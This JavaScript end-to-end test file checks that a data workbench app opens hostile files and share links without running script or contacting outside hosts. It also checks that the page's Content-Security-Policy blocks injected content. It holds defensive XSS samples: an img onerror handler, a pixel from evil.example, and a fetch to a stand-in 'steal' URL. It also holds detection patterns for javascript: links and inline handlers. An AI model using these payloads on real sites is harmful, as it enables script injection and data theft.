// Hostile workbench files and share links in the real app (Chromium): every file of e2e/hostile/ is opened
// through the file input, and a selection through `#share=` links built the way the app builds them
// (deflate-raw + base64url). Nothing may run (window.__pwned stays unset, no dialog), nothing may leave
// 127.0.0.1, no <script>/handler/javascript: link appears in the page, a refused file leaves the open
// workbench as it was and says why in the notice, and the built page's Content-Security-Policy blocks
// inline script, foreign images and foreign fetches.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { deflateRawSync } from "node:zlib";

const dir = new URL("../hostile/", import.meta.url);
const cases = JSON.parse(readFileSync(new URL("cases.json", dir), "utf8"));
const basic = readFileSync(new URL("../fixtures/basic.json", import.meta.url), "utf8");
const BASIC_TITLE = "Sleep study first look";
const stats = { files: 0, links: 0, refused: 0, opened: 0, checks: 0 };

async function openFile(page, name, text) {
  await page.setInputFiles("[data-testid=file-input]", { name, mimeType: "application/json", buffer: Buffer.from(text) });
}

async function ready(page, url, problems = []) {
  // dist/ is shared with other engineers' builds: a rebuild in progress 404s the page or its bundle for a
  // few seconds. Such an attempt is discarded (with what it logged) and retried; a 404 that persists
  // (e.g. a request the opened content makes) still fails after 6 attempts.
  for (let attempt = 1; ; attempt++) {
    const before = problems.length;
    let failure;
    try {
      await page.goto(url);
      await page.waitForSelector("[data-ready=true]", { timeout: 10_000 });
      if (!problems.slice(before).some((p) => /status of 404/.test(p))) return;
      failure = new Error(`404 while loading: ${problems.slice(before).join("; ")}`);
    } catch (error) {
      failure = error;
    }
    if (attempt >= 6) throw failure;
    problems.splice(before);
    await page.waitForTimeout(3000);
  }
}

async function allSettled(page) {
  await page.waitForFunction(
    () => {
      const cells = [...document.querySelectorAll("[data-cell-id]")];
      return cells.length > 0 && cells.every((c) => c.getAttribute("data-cell-status") !== "pending");
    },
    undefined,
    { timeout: 30_000 },
  );
}

/** Everything in the page that would mean code ran or could run. */
async function pageDangers(page) {
  return page.evaluate(() => {
    const out = [];
    if (window.__pwned !== undefined) out.push(`window.__pwned = ${window.__pwned}`);
    if ({}.polluted !== undefined || Object.prototype.polluted !== undefined) out.push("Object.prototype polluted");
    const app = document.querySelector("#app") ?? document.body;
    if (app.querySelector("script")) out.push("a <script> element in the app");
    for (const el of app.querySelectorAll("*")) {
      for (const attr of el.getAttributeNames()) {
        if (/^on/i.test(attr)) out.push(`handler ${attr} on <${el.tagName.toLowerCase()}>`);
        const v = el.getAttribute(attr) ?? "";
        if (/^(href|src|xlink:href|action|formaction|srcdoc|data)$/i.test(attr) && /^\s*(javascript|data:text\/html|vbscript)/i.test(v)) out.push(`${attr}="${v.slice(0, 60)}"`);
        if (/^(href|xlink:href|src)$/i.test(attr) && /^\s*https?:/i.test(v) && !(el.tagName === "A" && el.getAttribute("rel")?.includes("noopener"))) out.push(`${attr}="${v.slice(0, 60)}" on <${el.tagName.toLowerCase()}>`);
      }
    }
    for (const tag of ["iframe", "object", "embed", "frame", "base"]) if (app.querySelector(tag)) out.push(`<${tag}> element`);
    // Vega draws bound widgets inside <form class="vega-bindings">; any other form, or one with an action, is foreign.
    for (const form of app.querySelectorAll("form")) if (!form.classList.contains("vega-bindings") || form.hasAttribute("action")) out.push("a <form> element");
    return out;
  });
}

/** Console errors seen while opening hostile files (printed in the summary; they must not be crashes). */
const consoleErrors = [];

function expectClean(problems, label) {
  const bad = problems.filter((p) => /^(dialog|pageerror|request left)/.test(p));
  assert.deepEqual(bad, [], `${label}: ${bad.join("; ")}`);
  for (const p of problems) {
    consoleErrors.push(`${label}: ${p.slice(0, 200)}`);
    assert.doesNotMatch(p, /TypeError|RangeError|ReferenceError|Maximum call stack|Uncaught/, `${label}: ${p}`);
  }
}

function shareLink(baseUrl, text) {
  return `${baseUrl}#share=${deflateRawSync(Buffer.from(text, "utf8")).toString("base64url")}`;
}

async function checkOpened(page, name, want, how) {
  await page.waitForSelector(".workbench-title", { timeout: 15_000 });
  if (want.title) assert.equal(await page.textContent(".workbench-title"), want.title, `${name} (${how}): title shown as text`);
  await allSettled(page);
  const statuses = Object.fromEntries(await page.$$eval("[data-cell-id]", (els) => els.map((e) => [e.getAttribute("data-cell-id"), e.getAttribute("data-cell-status")])));
  for (const [id, status] of Object.entries(want.cells ?? {})) {
    if (statuses[id] !== undefined) assert.equal(statuses[id], status, `${name} (${how}): cell ${id}`);
    if (status === "rejected" && statuses[id] !== undefined) {
      const error = await page.textContent(`[data-cell-id="${id}"] .cell-error`);
      assert.ok(error && error.trim().length > 3, `${name}: cell ${id} shows its error`);
      assert.doesNotMatch(error, /Cannot read|is not a function|Maximum call stack/, `${name}: ${id} shows an internal crash`);
    }
  }
  // Give charts a moment to draw (and anything hostile a moment to fire).
  await page.waitForTimeout(300);
}

const fileTests = Object.entries(cases).map(([name, want]) => ({
  name: `file: ${name}`,
  async run({ page, baseUrl, problems }) {
    stats.files++;
    const text = readFileSync(new URL(name, dir), "utf8");
    await ready(page, baseUrl, problems);
    await openFile(page, "basic.json", basic);
    await page.waitForSelector(".workbench-title");
    await page.evaluate(() => document.querySelector("[data-testid=notice] button[aria-label='Dismiss message']")?.click());
    await openFile(page, name, text);
    if (want.open === false) {
      stats.refused++;
      await page.waitForFunction((n) => document.querySelector("[data-testid=notice]")?.textContent?.includes(`${n} was not opened`), name, { timeout: 15_000 });
      const notice = await page.textContent("[data-testid=notice]");
      assert.match(notice, new RegExp(want.notice), `${name}: the notice says why`);
      assert.equal(await page.textContent(".workbench-title"), BASIC_TITLE, `${name}: the open workbench stays`);
    } else {
      await page.waitForFunction(
        (n) => /was not opened/.test(document.querySelector("[data-testid=notice]")?.textContent ?? "") || document.querySelector(".workbench-title")?.textContent !== "Sleep study first look",
        name,
        { timeout: 15_000 },
      );
      const notice = (await page.textContent("[data-testid=notice]").catch(() => "")) ?? "";
      if (/was not opened/.test(notice)) {
        assert.equal(want.open, "either", `${name} was refused: ${notice}`);
        stats.refused++;
      } else {
        stats.opened++;
        await checkOpened(page, name, want, "file");
        // Visit every sheet so every cell renders.
        for (const tab of await page.$$("role=tab")) {
          await tab.click();
          await page.waitForTimeout(150);
          await allSettled(page);
        }
      }
    }
    const dangers = await pageDangers(page);
    stats.checks++;
    assert.deepEqual(dangers, [], `${name}: ${dangers.join("; ")}`);
    expectClean(problems, name);
  },
}));

const LINKED = Object.keys(cases).filter((n) => readFileSync(new URL(n, dir)).length < 60_000);
const linkTests = LINKED.map((name) => ({
  name: `link: ${name}`,
  async run({ page, baseUrl, problems }) {
    stats.links++;
    const want = cases[name];
    const text = readFileSync(new URL(name, dir), "utf8");
    await ready(page, shareLink(baseUrl, text), problems);
    if (want.open === false || want.open === "either") {
      await page.waitForFunction(() => document.querySelector("[data-testid=notice]") || document.querySelector(".workbench-title"), undefined, { timeout: 15_000 });
      const notice = (await page.textContent("[data-testid=notice]").catch(() => "")) ?? "";
      if (want.open === false) {
        assert.match(notice, /This share link could not be opened/, `${name}: link refused with a notice`);
        assert.match(notice, new RegExp(want.notice), `${name}: the notice says why`);
        assert.equal(await page.$(".workbench-title"), null, `${name}: nothing opened`);
      }
    } else {
      await checkOpened(page, name, want, "link");
    }
    const dangers = await pageDangers(page);
    stats.checks++;
    assert.deepEqual(dangers, [], `${name} (link): ${dangers.join("; ")}`);
    expectClean(problems, `${name} (link)`);
  },
}));

const cspTests = [
  {
    name: "the built page's Content-Security-Policy blocks inline script, foreign images and foreign fetches",
    allowConsoleErrors: true,
    async run({ page, baseUrl, problems }) {
      await ready(page, baseUrl, problems);
      const csp = await page.getAttribute("meta[http-equiv=Content-Security-Policy]", "content");
      assert.ok(csp, "a CSP meta tag is present");
      assert.match(csp, /script-src 'self'/);
      assert.doesNotMatch(csp, /script-src[^;]*'unsafe-inline'/, "no inline script allowed");
      assert.match(csp, /connect-src 'self'/);
      assert.match(csp, /object-src 'none'/);
      assert.match(csp, /base-uri 'none'/);
      const result = await page.evaluate(async () => {
        const violations = [];
        document.addEventListener("securitypolicyviolation", (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
        const s = document.createElement("script");
        s.textContent = "window.__csp_inline = 1";
        document.body.append(s);
        const div = document.createElement("div");
        div.innerHTML = `<img src="x" onerror="window.__csp_handler = 1"><img src="https://evil.example/pixel.png">`;
        document.body.append(div);
        let fetched = "no";
        try {
          await fetch("https://evil.example/steal?c=1");
          fetched = "yes";
        } catch {
          fetched = "blocked";
        }
        await new Promise((r) => setTimeout(r, 300));
        return { inline: window.__csp_inline, handler: window.__csp_handler, fetched, violations };
      });
      assert.equal(result.inline, undefined, "inline script did not run");
      assert.equal(result.handler, undefined, "inline event handler did not run");
      assert.equal(result.fetched, "blocked", "foreign fetch blocked");
      assert.ok(result.violations.some((v) => /script-src/.test(v)), `script violation reported: ${result.violations}`);
      assert.ok(result.violations.some((v) => /connect-src/.test(v)), `connect violation reported: ${result.violations}`);
      assert.ok(result.violations.some((v) => /img-src/.test(v)), `img violation reported: ${result.violations}`);
      const unexpected = problems.filter((p) => !/Content Security Policy|Refused to|Failed to fetch|net::ERR|x:1/.test(p));
      assert.deepEqual(unexpected, [], unexpected.join("; "));
      stats.checks++;
      console.log(`       [hostile] CSP: ${result.violations.length} violations reported and blocked`);
    },
  },
  {
    name: "summary of hostile files and links",
    async run() {
      console.log(`       [hostile] console errors while opening hostile files: ${consoleErrors.length}${consoleErrors.map((e) => `\n         ${e}`).join("")}`);
      console.log(`       [hostile] e2e: ${stats.files} files (${stats.refused} refused, ${stats.opened} opened), ${stats.links} share links, ${stats.checks} page checks`);
    },
  },
];

export const tests = [...fileTests, ...linkTests, ...cspTests];
